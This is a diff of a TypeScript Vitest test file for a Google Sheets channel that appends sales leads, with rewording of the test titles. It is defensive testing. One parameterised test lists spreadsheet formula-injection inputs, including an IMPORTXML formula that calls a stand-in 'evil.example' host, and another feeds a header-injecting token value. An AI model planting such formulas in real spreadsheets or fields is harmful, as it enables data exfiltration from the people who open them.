@@ -1,5 +1,5 @@
-// Rows appended to a partner's Google sheet: through the channel, over real HTTP, with the quota in a real database.
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+// The Google Sheets channel: appends rows over real HTTP, with its quota in a real database.
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 
 import type { DeliveryChannel, Parcel } from '../../src/deliveries/channels/channel.ts';
 import { columnNames } from '../../src/deliveries/delivery-columns.rules.ts';
@@ -65,8 +65,8 @@ function failing(isMeant: (request: ReceivedRequest) => boolean, when: 'instead'
 const idsInSheet = (): unknown[] => google.rows.map(([first]) => first);
 const taken = { kind: 'taken', error: null } as const;
 
-describe('A lead', () => {
-  test('is a row under the columns of the export, in a sheet that was empty', async () => {
+describe('A lead in a sheet', () => {
+  it('is a row under the columns of the export, in an empty sheet', async () => {
     const one = parcel();
     expect(await send(channel(), one)).toMatchObject([{ ...taken, responseCode: 200 }]);
     const { lead } = saleExample;
@@ -80,13 +80,13 @@ describe('A lead', () => {
     ]);
   });
 
-  test('gets no header above it where something stands already', async () => {
+  it('gets no header in a sheet that is not empty', async () => {
     google.rows.push(['My own column']);
     await send(channel(), parcel());
     expect(google.rows).toHaveLength(2);
   });
 
-  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '=IMPORTXML("https://evil.example","//x")', "'=1+1"])(
+  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '=IMPORTXML("https://evil.example","//x")', "'=1+1"])(
     'named %s is sent as this text, for a sheet that takes it as text',
     async (fullName) => {
       const one = parcel();
@@ -97,12 +97,12 @@ describe('A lead', () => {
     },
   );
 
-  test('that is a test has an id of its own and says so', async () => {
+  it('has an id of its own and a mark if it is a test', async () => {
     await send(channel(), parcel({ id: 'att_01m7wyk0h2emp81qch4dvtyn6a', isTest: true }));
     expect(google.rows[1]?.slice(0, 2)).toEqual(['att_01m7wyk0h2emp81qch4dvtyn6a', '[TEST] LS-100042']);
   });
 
-  test.each(['Leads 2026', "Summit's", 'Q1/Q2', 'A1', 'リード'])(
+  it.each(['Leads 2026', "Summit's", 'Q1/Q2', 'A1', 'リード'])(
     'goes to the first sheet, also when it is called %s',
     async (title) => {
       google.title = title;
@@ -112,8 +112,8 @@ describe('A lead', () => {
   );
 });
 
-describe('Many leads', () => {
-  test('are one write', async () => {
+describe('Many leads for one sheet', () => {
+  it('are one write request', async () => {
     const through = channel();
     const parcels = Array.from({ length: through.parcelsPerCall }, () => parcel());
     const outcomes = await send(through, ...parcels);
@@ -123,7 +123,7 @@ describe('Many leads', () => {
     expect(idsInSheet()).toEqual(['deliveryId', ...parcels.map(({ id }) => id)]);
   });
 
-  test('need one token, one look at the title and one at the first cell', async () => {
+  it('need one token, one read of the title and one of the first cell', async () => {
     const through = channel();
     for (let n = 0; n < 5; n += 1) expect(await send(through, parcel())).toMatchObject([taken]);
     expect(google.asked.tokens()).toBe(1);
@@ -131,7 +131,7 @@ describe('Many leads', () => {
     expect(google.rows).toHaveLength(6);
   });
 
-  test('at once wait for one token', async () => {
+  it('wait for one token if they arrive at once', async () => {
     google.rows.push(['deliveryId']);
     const through = channel();
     const outcomes = await Promise.all(Array.from({ length: 10 }, () => send(through, parcel())));
@@ -140,8 +140,8 @@ describe('Many leads', () => {
   });
 });
 
-describe('A token', () => {
-  test('is renewed shortly before it ends', async () => {
+describe('The access token of Google Sheets', () => {
+  it('is renewed shortly before it expires', async () => {
     const through = channel();
     await send(through, parcel());
     clock.advance(3600_000 - 61_000);
@@ -153,7 +153,7 @@ describe('A token', () => {
     expect(google.rows).toHaveLength(4);
   });
 
-  test('that is not taken any more is replaced for the next attempt', async () => {
+  it('is replaced for the next attempt when Google rejects it', async () => {
     const through = channel();
     await send(through, parcel());
     google.tokens.length = 0;
@@ -170,7 +170,7 @@ describe('A token', () => {
     expect(await send(through, one)).toMatchObject([taken]);
   });
 
-  test.each([
+  it.each([
     [
       { status: 400, body: '{"error":"invalid_grant","error_description":"Bad key of x"}' },
       'HTTP 400 (invalid_grant).',
@@ -178,7 +178,7 @@ describe('A token', () => {
     [{ status: 503, body: 'down' }, 'HTTP 503.'],
     [{ status: 200, body: '{"token_type":"Bearer"}' }, 'HTTP 200.'],
     [{ status: 200, body: '{"access_token":"a\\r\\nb: c"}' }, 'HTTP 200.'],
-  ] as const)('that Google does not give (%j) is asked for again at the next attempt', async (reply, says) => {
+  ] as const)('is requested again at the next attempt when Google does not issue one (%j)', async (reply, says) => {
     failing(({ path }) => path === '/token', 'instead', reply);
     const through = channel();
     const one = parcel();
@@ -191,7 +191,7 @@ describe('A token', () => {
     expect(await send(through, one)).toMatchObject([taken]);
   });
 
-  test('endpoint that does not answer is an outcome too', async () => {
+  it('gives an outcome when its endpoint does not respond', async () => {
     failing(({ path }) => path === '/token', 'instead', 'reset');
     expect(await send(channel(), parcel())).toMatchObject([
       { kind: 'not_taken', why: 'later', receipt: 'no', error: expect.stringContaining('no access token') as string },
@@ -199,10 +199,10 @@ describe('A token', () => {
   });
 });
 
-describe('Sixty writes a minute', () => {
+describe('The quota of sixty writes a minute', () => {
   const until = (instant: string) => ({ kind: 'deferred', until: new Date(instant) });
 
-  test('are made by two workers together; the next waits for the minute after', async () => {
+  it('is shared by two workers, and the next write waits for the next minute', async () => {
     google.rows.push(['deliveryId']);
     const workers = [channel(), channel()];
     const outcomes = await Promise.all(
@@ -218,7 +218,7 @@ describe('Sixty writes a minute', () => {
     expect(await send(workers[0] ?? channel(), parcel())).toMatchObject([taken]);
   });
 
-  test('are counted for the account and not for what is only read', async () => {
+  it('counts writes of the account, and no reads', async () => {
     const through = channel();
     const one = parcel();
     await send(through, one);
@@ -226,7 +226,7 @@ describe('Sixty writes a minute', () => {
     expect(google.asked.appends()).toHaveLength(1);
   });
 
-  test('are forgotten with their minutes', async () => {
+  it('is deleted with its minutes', async () => {
     google.rows.push(['deliveryId']);
     const through = channel();
     for (let n = 0; n < 60; n += 1) await send(through, parcel());
@@ -237,8 +237,8 @@ describe('Sixty writes a minute', () => {
   });
 });
 
-describe('The header', () => {
-  test('is written by one of two workers that find the sheet empty', async () => {
+describe('The header of a sheet', () => {
+  it('is written once by two workers that find the sheet empty', async () => {
     // Both have looked before either may write.
     let looked = 0;
     const both = Promise.withResolvers<null>();
@@ -277,8 +277,8 @@ describe('The header', () => {
   });
 });
 
-describe('A row is written once', () => {
-  test('when the answer was lost and the sheet shows that it is there', async () => {
+describe('A row whose write is uncertain', () => {
+  it('is not written again when the response was lost and the sheet has it', async () => {
     failing(isAppend, 'after', 'reset');
     const parcels = [parcel(), parcel()];
     expect(await send(channel(), ...parcels)).toMatchObject([taken, taken]);
@@ -286,7 +286,7 @@ describe('A row is written once', () => {
     expect(google.asked.appends()).toHaveLength(1);
   });
 
-  test('when the answer was lost, then the look at the sheet too, and another worker tries again', async () => {
+  it('is not written again by another worker when the response and the check of the sheet were lost', async () => {
     const lookAgain = ({ path }: ReceivedRequest): boolean => decodeURIComponent(path).includes('A:A');
     failing((request) => isAppend(request) || lookAgain(request), 'after', 'reset', 'reset');
     const one = parcel();
@@ -297,7 +297,7 @@ describe('A row is written once', () => {
     expect(google.asked.appends().at(-1)).toHaveLength(1);
   });
 
-  test('when Google answers 500 and had written it all the same', async () => {
+  it('is not written again when Google responds 500 but has written it', async () => {
     failing(isAppend, 'after', { status: 500 });
     const one = parcel();
     expect(await send(channel(), one)).toMatchObject([
@@ -307,7 +307,7 @@ describe('A row is written once', () => {
     expect(idsInSheet()).toEqual(['deliveryId', one.id]);
   });
 
-  test('and not at all left out: what was lost before it was written is written at the next attempt', async () => {
+  it('is written at the next attempt when the first one was lost before the write', async () => {
     failing(isAppend, 'instead', 'reset');
     const one = parcel();
     expect(await send(channel(), one)).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'unknown' }]);
@@ -317,7 +317,7 @@ describe('A row is written once', () => {
     expect(idsInSheet()).toEqual(['deliveryId', one.id]);
   });
 
-  test('when it may be there and nobody can say: then nothing is written', async () => {
+  it('is not written while the sheet cannot be read', async () => {
     const one = parcel({ isRepeat: true });
     google.rows.push(['deliveryId']);
     failing(
@@ -339,7 +339,7 @@ describe('A row is written once', () => {
 });
 
 describe('A sheet that cannot be written', () => {
-  test.each([403, 404])('for a %d is refused with the address that it must be shared with', async (status) => {
+  it.each([403, 404])('is rejected with a %d, with the address that it must be shared with', async (status) => {
     for (const isMeant of [isAppend, ({ method }: ReceivedRequest) => method === 'GET']) {
       failing(isMeant, 'instead', { status, body: '{"error":{"status":"PERMISSION_DENIED"}}' });
       expect(await send(channel(), parcel())).toMatchObject([
@@ -352,31 +352,31 @@ describe('A sheet that cannot be written', () => {
     }
   });
 
-  test('for too many requests is tried later, when Google says', async () => {
+  it('is retried when Google says after too many requests', async () => {
     failing(isAppend, 'instead', { status: 429, headers: { 'retry-after': '37' } });
     expect(await send(channel(), parcel())).toMatchObject([
       { kind: 'not_taken', why: 'later', receipt: 'no', retryAfterSeconds: 37, responseCode: 429 },
     ]);
   });
 
-  test.each([500, 503])('for a %d is tried later, and whether it was written is unknown', async (status) => {
+  it.each([500, 503])('is retried after a %d, with an uncertain receipt', async (status) => {
     failing(isAppend, 'instead', { status });
     expect(await send(channel(), parcel())).toMatchObject([
       { kind: 'not_taken', why: 'later', receipt: 'unknown', responseCode: status },
     ]);
   });
 
-  test('for a failure before anything was written is tried later without a doubt', async () => {
+  it('is retried after a failure before the write, with a certain receipt', async () => {
     failing(({ method }) => method === 'GET', 'instead', 'reset');
     expect(await send(channel(), parcel())).toMatchObject([{ kind: 'not_taken', why: 'later', receipt: 'no' }]);
   });
 
-  test('is no endpoint of the partner that could be gone', async () => {
+  it('is never disabled as gone', async () => {
     failing(isAppend, 'instead', { status: 410 });
     expect(await send(channel(), parcel())).toMatchObject([{ kind: 'not_taken', why: 'refused', responseCode: 410 }]);
   });
 
-  test('because it was renamed is found again at the next attempt', async () => {
+  it('is found again at the next attempt after it was renamed', async () => {
     const through = channel();
     await send(through, parcel());
     google.title = 'Renamed';
@@ -385,7 +385,7 @@ describe('A sheet that cannot be written', () => {
     expect(await send(through, one)).toMatchObject([taken]);
   });
 
-  test('is not tried where nothing is set up', async () => {
+  it('is not tried if no account or spreadsheet is configured', async () => {
     const unset = createSheetsChannel(
       createSheets({
         serviceAccount: readServiceAccount({ googleServiceAccountFile: null }),
@@ -407,23 +407,25 @@ describe('A sheet that cannot be written', () => {
   });
 });
 
-test('No outcome holds the key, a token or anything of the person', async () => {
-  const outcomes: SendOutcome[] = [];
-  const through = channel();
-  const faults: Reply[] = ['reset', { status: 400, body: '{"error":{"message":"no"}}' }, { status: 503 }];
-  for (const fault of faults) {
-    failing(isAppend, 'instead', fault);
+describe('The outcomes of the Sheets channel', () => {
+  it('contain neither the key nor a token nor data of the contact', async () => {
+    const outcomes: SendOutcome[] = [];
+    const through = channel();
+    const faults: Reply[] = ['reset', { status: 400, body: '{"error":{"message":"no"}}' }, { status: 503 }];
+    for (const fault of faults) {
+      failing(isAppend, 'instead', fault);
+      outcomes.push(...(await send(through, parcel())));
+      clock.advance(60_000);
+    }
+    failing(({ path }) => path === '/token', 'instead', {
+      status: 401,
+      body: `{"error":"invalid_client","error_description":"${google.tokens[0]}"}`,
+    });
+    clock.advance(3_600_000);
     outcomes.push(...(await send(through, parcel())));
-    clock.advance(60_000);
-  }
-  failing(({ path }) => path === '/token', 'instead', {
-    status: 401,
-    body: `{"error":"invalid_client","error_description":"${google.tokens[0]}"}`,
+    const said = JSON.stringify(outcomes);
+    const secrets = [...google.tokens, ...privateKeyPem.split('\n').filter((line) => line !== ''), 'eyJ'];
+    const { fullName, email, phone, leadIp } = exampleFields;
+    for (const text of [...secrets, fullName, email, phone, leadIp]) expect(said).not.toContain(text);
   });
-  clock.advance(3_600_000);
-  outcomes.push(...(await send(through, parcel())));
-  const said = JSON.stringify(outcomes);
-  const secrets = [...google.tokens, ...privateKeyPem.split('\n').filter((line) => line !== ''), 'eyJ'];
-  const { fullName, email, phone, leadIp } = exampleFields;
-  for (const text of [...secrets, fullName, email, phone, leadIp]) expect(said).not.toContain(text);
 });
